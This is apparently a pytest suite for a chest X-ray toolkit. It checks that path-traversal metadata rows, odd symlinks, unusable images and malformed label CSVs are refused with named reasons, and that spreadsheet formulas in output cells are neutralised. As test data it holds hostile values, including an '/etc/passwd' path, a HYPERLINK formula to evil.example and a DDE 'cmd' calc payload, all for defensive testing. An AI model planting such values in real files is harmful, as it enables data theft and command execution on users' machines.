"""Hostile data and image inputs (issue 16, items 3, 12-16, 19, 20): a metadata row cannot leave its collection,
label conflicts are logged, outputs never mix with the images, every skipped or unusable file is named with its
real reason, tiny/elongated/constant images are refused the same way everywhere, EXIF orientation is applied by
the one decoder, labels CSV problems name the file and line, and every CSV is safe to open in a spreadsheet."""

from __future__ import annotations

import builtins
import csv
import os
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, strategies as st
from PIL import Image

from cxrbook import atomic
from cxrbook.data import cleaning, images, metadata
from cxrbook.data.synthetic import chest_image, make_fake_collections
from cxrbook.inference import folder as EV
from cxrbook.inference import predict as P
from cxrbook.workflow import cli as CLI
from test_robustness import cli_args, fake_scorer, gray_png

SRC = Path(__file__).resolve().parents[1] / "src" / "cxrbook"


@pytest.fixture()
def collections(tmp_path) -> Path:
    return make_fake_collections(tmp_path / "data", n_patients=3, seed=0, external=False)


def _cohen_rows(root: Path, rows: list[dict]) -> Path:
    """Append rows (filename, finding, optional patientid) to the fake Cohen metadata.csv."""
    meta = root / "covid-chestxray-dataset" / "metadata.csv"
    df = pd.read_csv(meta, dtype=str, keep_default_na=False)
    base = dict(sex="M", age="50", finding="COVID-19", view="PA", modality="X-ray", folder="images",
                location="Rome, Italy", license="CC BY 4.0")
    extra = pd.DataFrame([{**base, "patientid": str(800 + i), **r} for i, r in enumerate(rows)])
    pd.concat([df, extra], ignore_index=True).fillna("").to_csv(meta, index=False)
    return meta


# --------------------------------------------------------------------------- 3. rows confined to their collection

def test_metadata_rows_cannot_leave_their_collection(collections, tmp_path, monkeypatch):
    """An absolute path, a ../ path and a symlink pointing out are each one logged row; /etc/passwd is never opened."""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    Image.fromarray(chest_image("covid", np.random.default_rng(9), 64)).save(outside / "stray.png")
    images_dir = collections / "covid-chestxray-dataset" / "images"
    (images_dir / "link.png").symlink_to(outside / "stray.png")
    _cohen_rows(collections, [{"filename": "/etc/passwd"},
                              {"filename": os.path.relpath(outside / "stray.png", images_dir)},
                              {"filename": "link.png"}])
    opened: list[str] = []
    real_open = builtins.open

    def spy(file, *a, **k):
        opened.append(os.path.realpath(file) if isinstance(file, (str, os.PathLike)) else str(file))
        return real_open(file, *a, **k)
    monkeypatch.setattr(builtins, "open", spy)
    tidy = metadata.load_all(collections)
    kept, log = cleaning.clean(tidy)
    monkeypatch.undo()
    hostile = log[log["image_path"].str.contains("passwd|stray|link.png")]
    assert len(hostile) == 3 and set(hostile["reason"]) == {"outside_collection"}, hostile
    assert hostile["detail"].str.contains("outside the collection folder").all()
    assert "/etc/passwd" not in opened and str(outside / "stray.png") not in opened
    assert not kept["image_path"].str.contains("passwd|stray|link.png").any()
    assert len(kept) + len(log) == len(tidy)
    assert "outside_collection" in cleaning.reason_table(tidy, log).index


def test_same_bytes_with_different_labels_is_a_logged_conflict(collections):
    """A pediatric normal copied into Cohen labelled covid: both copies are dropped as label_conflict
    (neither label can be trusted), instead of the covid copy silently winning."""
    ped = collections / "pediatric-normal-chestxray" / "images" / "IM-0000-0001.jpeg"
    shutil.copy(ped, collections / "covid-chestxray-dataset" / "images" / "copy.jpeg")
    _cohen_rows(collections, [{"filename": "copy.jpeg", "finding": "COVID-19"}])
    tidy = metadata.load_all(collections)
    kept, log = cleaning.clean(tidy)
    conflict = log[log["reason"] == "label_conflict"]
    assert sorted(Path(p).name for p in conflict["image_path"]) == ["IM-0000-0001.jpeg", "copy.jpeg"]
    cohen_detail = conflict.loc[conflict["source"] == "cohen", "detail"].iloc[0]
    assert cohen_detail.startswith("labelled covid") and "IM-0000-0001.jpeg) labelled normal" in cohen_detail
    assert not kept["image_path"].str.contains("copy.jpeg|IM-0000-0001.jpeg").any()
    # same bytes and the same label is still a plain duplicate of the first copy
    assert (log["reason"] == "duplicate_image").sum() == 1 and len(kept) + len(log) == len(tidy)


# --------------------------------------------------------------------------- 12. --out and what the walk skips

@pytest.mark.parametrize("where", ["same", "inside", "above"])
def test_evaluate_refuses_an_out_folder_overlapping_the_images(tmp_path, where, capsys, monkeypatch):
    images_dir = tmp_path / "scans"
    images_dir.mkdir()
    gray_png(images_dir / "a.png")
    out = {"same": images_dir, "inside": images_dir / "results", "above": tmp_path}[where]
    with pytest.raises(ValueError, match=r"--out .* (is the --images folder|is inside|contains)"):
        EV.evaluate_folder(fake_scorer(), images_dir, out_dir=out, echo=None)
    assert sorted(p.name for p in images_dir.iterdir()) == ["a.png"]  # nothing written
    monkeypatch.setattr(CLI, "load_model", lambda *a, **k: fake_scorer())
    args = cli_args("evaluate", "--model", "m.keras", "--images", images_dir, "--out", out)
    assert args.func(args) == CLI.EXIT_FATAL == 2
    err = capsys.readouterr().err
    assert "outputs must not mix with the images" in err and "0 files" not in err
    assert sorted(p.name for p in images_dir.iterdir()) == ["a.png"]  # refused before --out is created


def test_evaluate_lists_what_it_skipped_and_why(tmp_path, capsys):
    images_dir = tmp_path / "scans"
    (images_dir / "sub").mkdir(parents=True)
    (images_dir / ".cache").mkdir()
    gray_png(images_dir / "a.png")
    gray_png(images_dir / "sub" / "b.png")
    gray_png(images_dir / "a_gradcam.png")
    gray_png(images_dir / ".hidden.png")
    gray_png(images_dir / ".cache" / "c.png")
    (images_dir / "notes.txt").write_text("not an image")
    labels = images_dir / "labels.csv"
    labels.write_text("filename,label\na.png,covid\nsub/b.png,normal\n")
    (tmp_path / "more").mkdir()
    (images_dir / "linked").symlink_to(tmp_path / "more")
    s = EV.evaluate_folder(fake_scorer(), images_dir, labels_csv=labels, out_dir=tmp_path / "out", n_boot=10,
                           echo=print)
    out = capsys.readouterr().out
    skipped = pd.read_csv(s["skipped_csv"], keep_default_na=False)
    assert dict(zip(skipped["file"], skipped["reason"])) == {
        ".cache": "hidden", ".hidden.png": "hidden", "a_gradcam.png": "own_overlay", "labels.csv": "labels_file",
        "linked": "symlinked_folder"}
    assert s["n_skipped"] == 5 and s["n_scored"] == 2
    assert "skipped on purpose: 5" in out
    assert "skipped: a_gradcam.png: a Grad-CAM overlay this tool writes" in out
    assert "skipped: linked: a symbolic link to a folder: not followed" in out
    unreadable = pd.read_csv(s["unreadable_csv"])          # a non-image is tried, and named with why
    assert list(zip(unreadable["file"], unreadable["reason"])) == [("notes.txt", "not_an_image")]


def test_a_folder_that_cannot_be_listed_is_named_and_the_walk_goes_on(tmp_path, monkeypatch):
    d = tmp_path / "scans"
    (d / "locked").mkdir(parents=True)
    gray_png(d / "a.png")
    real_scandir = os.scandir

    def scandir(path="."):
        if str(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)
    monkeypatch.setattr(os, "scandir", scandir)   # a chmod 000 folder, also when the tests run as root
    files, skipped = EV.walk_images(d)
    assert [f.name for f in files] == ["a.png"]
    assert skipped == [{"file": "locked", "reason": "unlistable_folder", "detail": "Permission denied"}]


# --------------------------------------------------------------------------- 13. links, pipes, folders

@pytest.fixture()
def odd_entries(tmp_path) -> Path:
    d = tmp_path / "odd"
    d.mkdir()
    gray_png(d / "good.png")
    (d / "loop.png").symlink_to(d / "loop.png")
    (d / "a.png").symlink_to(d / "b.png")
    (d / "b.png").symlink_to(d / "a.png")
    (d / "dangling.png").symlink_to(tmp_path / "gone.png")
    os.mkfifo(d / "pipe.png")
    return d


def test_evaluate_reports_each_odd_entry_with_its_real_reason(odd_entries, tmp_path, capsys):
    s = EV.evaluate_folder(fake_scorer(), odd_entries, out_dir=tmp_path / "out", echo=print)
    bad = pd.read_csv(s["unreadable_csv"])
    assert dict(zip(bad["file"], bad["reason"])) == {
        "a.png": "symlink_loop", "b.png": "symlink_loop", "dangling.png": "dangling_symlink",
        "loop.png": "symlink_loop", "pipe.png": "not_a_regular_file"}
    assert s["n_scored"] == 1
    assert "does not exist" not in capsys.readouterr().out


def test_predict_reports_each_odd_entry_with_its_real_reason(odd_entries):
    files = [odd_entries / n for n in ("loop.png", "dangling.png", "pipe.png", "good.png")]
    rows = P.predict_files(fake_scorer(), files, overlays=False, echo=None)
    assert [r["reason"] for r in rows] == ["symlink_loop", "dangling_symlink", "not_a_regular_file", ""]
    assert "symbolic link loop" in rows[0]["message"] and "gone.png" in rows[1]["message"]
    assert "named pipe" in rows[2]["message"] and not any("does not exist" in r["message"] for r in rows)


def test_model_or_labels_that_are_folders_are_called_folders(tmp_path, monkeypatch, capsys):
    img = gray_png(tmp_path / "a.png")
    args = cli_args("predict", img, "--model", tmp_path, "--no-gradcam")
    assert args.func(args) == CLI.EXIT_FATAL
    err = capsys.readouterr().err
    assert f"model file {tmp_path} is a folder, not a file" in err and "does not exist" not in err
    monkeypatch.setattr(CLI, "load_model", lambda *a, **k: fake_scorer())
    folder = tmp_path / "imgs"
    folder.mkdir()
    gray_png(folder / "b.png")
    (tmp_path / "labels").mkdir()
    args = cli_args("evaluate", "--model", "m.keras", "--images", folder, "--labels", tmp_path / "labels",
                    "--out", tmp_path / "o")
    assert args.func(args) == CLI.EXIT_FATAL
    err = capsys.readouterr().err
    assert f"labels file {tmp_path / 'labels'} is a folder, not a file" in err and "does not exist" not in err


# --------------------------------------------------------------------------- 14. images too small, elongated, flat

def _noise(path: Path, w: int, h: int) -> Path:
    Image.fromarray(np.random.default_rng(w * 7 + h).integers(0, 256, (h, w)).astype(np.uint8)).save(path)
    return path


@pytest.mark.parametrize("w,h,reason", [(1, 1, "too_small"), (31, 64, "too_small"), (50000, 1, "too_small"),
                                        (4000, 40, "extreme_aspect_ratio"), (32, 129, "extreme_aspect_ratio"),
                                        (32, 32, None), (32, 128, None), (200, 64, None)])
def test_size_and_shape_rule(tmp_path, w, h, reason):
    assert images.check_image(_noise(tmp_path / "x.png", w, h))[0] == reason


def test_unscoreable_images_are_refused_alike_by_predict_evaluate_and_cleaning(tmp_path):
    d = tmp_path / "imgs"
    d.mkdir()
    Image.new("L", (64, 64), 200).save(d / "flat.png")
    Image.new("RGB", (64, 64), (90, 90, 90)).save(d / "flat_rgb.jpg")
    files = {"dot.png": _noise(d / "dot.png", 1, 1), "strip.png": _noise(d / "strip.png", 50000, 1),
             "wide.png": _noise(d / "wide.png", 600, 100), "flat.png": d / "flat.png",
             "flat_rgb.jpg": d / "flat_rgb.jpg", "good.png": gray_png(d / "good.png")}
    want = {"dot.png": "too_small", "strip.png": "too_small", "wide.png": "extreme_aspect_ratio",
            "flat.png": "constant_image", "flat_rgb.jpg": "constant_image", "good.png": ""}
    rows = P.predict_files(fake_scorer(), list(files.values()), overlays=False, echo=None)
    assert {Path(r["file"]).name: r["reason"] for r in rows} == want
    assert all(r["probabilities"] == {} for r in rows if r["reason"])      # no score for the refused ones
    s = EV.evaluate_folder(fake_scorer(), d, out_dir=tmp_path / "out", echo=None)
    bad = pd.read_csv(s["unreadable_csv"])
    assert dict(zip(bad["file"], bad["reason"])) == {k: v for k, v in want.items() if v}
    tidy = pd.DataFrame([{"source": "cohen", "row_id": i, "patient_id": f"p{i}", "image_path": str(p),
                          "finding": "COVID-19", "label": "covid", "view": "PA", "modality": "X-ray"}
                         for i, p in enumerate(files.values())])
    kept, log = cleaning.clean(tidy)
    assert {Path(p).name: r for p, r in zip(log["image_path"], log["reason"])} == \
        {k: v for k, v in want.items() if v}
    assert list(kept["image_path"]) == [str(files["good.png"])]


# --------------------------------------------------------------------------- 15. blank Cohen patient ids

def test_blank_cohen_patient_ids_are_logged_and_never_merged(collections):
    _cohen_rows(collections, [{"filename": "p001-0.jpg", "patientid": ""},
                              {"filename": "p002-0.jpg", "patientid": "  "},
                              {"filename": "p003-0.jpg", "patientid": ""}])
    with pytest.warns(UserWarning, match=r"metadata.csv: 3 row\(s\) with a blank patientid") as w:
        tidy = metadata.load_all(collections)
    assert "own patient" in str(w[0].message)
    blank = tidy[tidy["patient_id"].str.contains(metadata.NO_PATIENT_ID, regex=False)]
    assert len(blank) == 3 and blank["patient_id"].nunique() == 3
    assert (blank["patient_id"] == "cohen:" + metadata.NO_PATIENT_ID + blank["row_id"].astype(str)).all()
    assert not (tidy["patient_id"] == "cohen:").any()


# --------------------------------------------------------------------------- 16. EXIF orientation, one decoder

def test_exif_orientation_is_applied_by_the_decoder(tmp_path):
    upright = chest_image("covid", np.random.default_rng(4), 64)[:, :48]          # 64 high, 48 wide
    upright[:8, :8] = 255                                                          # a marker top-left
    Image.fromarray(upright).save(tmp_path / "upright.png")
    stored = np.rot90(upright, 1)                      # the camera stored it turned 90 degrees counter-clockwise
    exif = Image.Exif()
    exif[0x0112] = 6                                   # "rotate 90 CW to display"
    Image.fromarray(np.ascontiguousarray(stored)).save(tmp_path / "turned.png", exif=exif.tobytes())
    with Image.open(tmp_path / "turned.png") as raw:
        assert raw.size == (64, 48) and raw.getexif().get(0x0112) == 6
    assert np.array_equal(images.load_gray(tmp_path / "turned.png"), upright)
    side = {"image_size": 32, "preprocessing": {"clahe": False}}
    assert np.array_equal(P.preprocess_file(tmp_path / "turned.png", side)[1],
                          P.preprocess_file(tmp_path / "upright.png", side)[1])


def test_pixels_are_decoded_only_by_the_one_decoder():
    """Outside data/images.py, PIL may read a header (size, mode) but never decode pixels for scoring."""
    allowed = {"data/images.py", "app/scoring.py", "data/cleaning.py"}  # the two others read sizes / modes only
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        text = path.read_text()
        if re.search(r"Image\.open\(|imread\(|cv2\.", text) and rel not in allowed:
            offenders.append(rel)
    assert not offenders, f"decode images with cxrbook.data.images.load_gray, not in {offenders}"


# --------------------------------------------------------------------------- 19. labels CSV problems

@pytest.mark.parametrize("text,expected", [
    ("filename,label\na.png,covid\nb.png\n", r"line 3 has 1 fields, the header has 2"),
    ("filename,label\na.png,covid,extra,more\n", r"line 2 has 4 fields, the header has 2"),
    ("filename,label,patient_id\n", r"has a header but no rows"),
    ("", r"is empty"),
    ("filename,label,patient_id\na.png,covid,\nb.png,normal,\n", r"patient_id column is blank on every row"),
    ("filename,label,patient_id\na.png,covid,p1\nb.png,normal,\n", r"patient_id column is blank on line\(s\) 3"),
    ("filename,label\na.png,\n", r"line 2 has a blank label"),
    ("filename,label\na.png,covid\n\nb.png,COVID-19\n", r"labels \['COVID-19'\] .* on line\(s\) 4"),
    ("filename,label\na.png,covid\na.png,normal\n", r"line 3 lists 'a.png' again \(first on line 2\)"),
    ("filename,label,label\na.png,covid,covid\n", r"column\(s\) \['label'\] more than once"),
])
def test_labels_csv_problems_name_the_file_and_line(tmp_path, text, expected):
    path = tmp_path / "labels.csv"
    path.write_text(text)
    with pytest.raises(ValueError, match=expected) as e:
        EV.read_labels(path, ["normal", "covid"])
    assert str(path) in str(e.value) and "no patient_id column" not in str(e.value)


def test_a_trailing_empty_field_is_not_ragged(tmp_path):
    path = tmp_path / "labels.csv"
    path.write_text("filename,label,patient_id\na.png,covid,p1,\nb.png,normal,p2\n")
    assert EV.read_labels(path, ["normal", "covid"]) == {"a.png": ("covid", "p1"), "b.png": ("normal", "p2")}


# --------------------------------------------------------------------------- 20. formulas in CSV cells

FORMULA_NAMES = ['=HYPERLINK("evil.example?q=1","x").png', "+cmd.png", "-2+3.png", "@SUM(A1).png"]


def test_formula_file_names_are_neutralised_in_every_evaluate_csv(tmp_path):
    d = tmp_path / "imgs"
    d.mkdir()
    for name in FORMULA_NAMES:
        gray_png(d / name)
    (d / "=broken.png").write_text("no image")
    (d / "=x_gradcam.png").write_text("ours")
    s = EV.evaluate_folder(fake_scorer(), d, out_dir=tmp_path / "out", echo=None)
    for key, names in (("predictions_csv", FORMULA_NAMES), ("unreadable_csv", ["=broken.png"]),
                       ("skipped_csv", ["=x_gradcam.png"])):
        with open(s[key], newline="") as f:
            cells = [row[0] for row in list(csv.reader(f))[1:]]
        assert sorted(cells) == sorted("'" + n for n in names), key        # what a spreadsheet sees: text
        assert sorted(atomic.read_csv(s[key])["file"]) == sorted(names)     # what a program gets back


def test_write_csv_neutralises_text_cells_only(tmp_path):
    df = pd.DataFrame({"finding": ["=cmd|' /C calc'!A0", "COVID-19", "-", "'=1"], "offset": [-5, 0, 3, 1],
                       "delta": ["-0.25", "+1e-3", "@x", "\tx"]})
    path = atomic.write_csv(df, tmp_path / "t.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert list(raw["finding"]) == ["'=cmd|' /C calc'!A0", "COVID-19", "'-", "''=1"]
    assert list(raw["offset"]) == ["-5", "0", "3", "1"] and list(raw["delta"]) == ["-0.25", "+1e-3", "'@x", "'\tx"]
    back = atomic.read_csv(path, dtype=str, keep_default_na=False)
    assert back.equals(df.astype(str))


def test_every_csv_the_workbook_writes_goes_through_the_safe_writers():
    """Outputs are written by atomic.write_csv / write_rows only; synthetic.py writes stand-in *input* metadata."""
    roots = [*SRC.rglob("*.py"), *(SRC.parents[1] / "notebooks").glob("*.ipynb")]
    offenders = [p.name for p in roots if p.name not in ("atomic.py", "synthetic.py")
                 and re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", p.read_text())]
    assert not offenders, f"write CSVs with cxrbook.atomic.write_csv or write_rows, not in {offenders}"


@given(st.text(alphabet="=+-@\t\r'.eE019a ", max_size=8) | st.text(max_size=12))
def test_spreadsheet_escaping_round_trips_and_never_starts_a_formula(value):
    safe = atomic.spreadsheet_safe(value)
    assert atomic.spreadsheet_original(safe) == value
    assert safe[:1] not in atomic.FORMULA_START or re.fullmatch(r"[+-]\d*\.?\d*(e[+-]?\d+)?", safe, re.I)
